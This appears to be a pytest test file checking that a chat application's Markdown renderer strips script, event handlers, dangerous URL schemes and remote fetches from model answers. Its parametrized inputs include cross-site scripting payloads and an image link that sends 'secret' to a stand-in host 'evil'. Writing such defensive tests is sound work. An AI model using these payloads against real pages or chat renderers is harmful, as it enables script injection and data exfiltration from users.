"""Model answers are Markdown rendered safely: nothing in them can run script or fetch a URL."""

from html.parser import HTMLParser

import pytest

from chat.rendering import ALLOWED_TAGS, render_markdown


class Elements(HTMLParser):
    """Every element and attribute the browser would build from the HTML."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def elements(html: str) -> list[tuple[str, dict[str, str | None]]]:
    parser = Elements()
    parser.feed(html)
    return parser.found


@pytest.mark.parametrize(
    "payload",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[d](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
        '<a href="javascript:alert(1)">x</a>',
        "<iframe src=//evil></iframe>",
        "<svg onload=alert(1)>",
        '<p style="background:url(//evil)">x</p>',
        "[x](vbscript:msgbox(1))",
        "![x](http://evil/?q=secret)",
        "[a](<javascript:alert(1)>)",
    ],
)
def test_nothing_executable_or_fetching_survives(payload: str) -> None:
    for tag, attrs in elements(render_markdown(payload)):
        assert tag in ALLOWED_TAGS and tag not in {"script", "img", "iframe", "svg", "style"}
        assert not any(name.startswith("on") or name in {"src", "style", "srcset"} for name in attrs)
        href = (attrs.get("href") or "").strip().lower()
        assert not href or href.startswith(("http://", "https://", "mailto:")), href


def test_raw_html_is_shown_as_text() -> None:
    assert render_markdown("<b>bold?</b>") == "<p>&lt;b&gt;bold?&lt;/b&gt;</p>\n"


def test_images_become_plain_links() -> None:
    html = render_markdown("![secret chart](http://evil/?q=secret)")
    assert "<img" not in html
    assert '<a href="http://evil/?q=secret" rel="noopener noreferrer nofollow">secret chart (image)</a>' in html


def test_markdown_and_highlighted_code() -> None:
    html = render_markdown(
        "**bold** and `x`\n\n```python\ndef f():\n    return 1\n```\n\n| a | b |\n|---|---|\n| 1 | 2 |"
    )
    assert "<strong>bold</strong>" in html and "<code>x</code>" in html
    assert '<span class="k">def</span>' in html and "<table>" in html


def test_safe_links_are_kept_and_marked() -> None:
    assert '<a href="https://example.com" rel="noopener noreferrer nofollow">docs</a>' in render_markdown(
        "[docs](https://example.com)"
    )
